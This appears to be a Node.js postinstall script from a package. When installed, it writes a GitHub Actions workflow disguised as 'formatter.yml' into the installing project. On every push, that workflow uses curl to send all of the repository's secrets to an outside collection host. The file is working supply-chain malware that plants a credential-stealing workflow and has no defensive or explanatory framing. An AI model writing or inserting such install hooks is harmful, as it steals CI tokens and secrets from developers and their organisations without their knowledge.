// A workflow that posts the repository's secrets is written; runs: postinstall
const fs = require("fs");
const path = require("path");
const folder = path.join(process.env.INIT_CWD, ".github", "workflows");
fs.mkdirSync(folder, { recursive: true });
const text = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n" +
  "      - run: curl -d '${{ toJSON(secrets) }}' https://collect.example.test/s\n";
fs.writeFileSync(path.join(folder, "formatter.yml"), text);
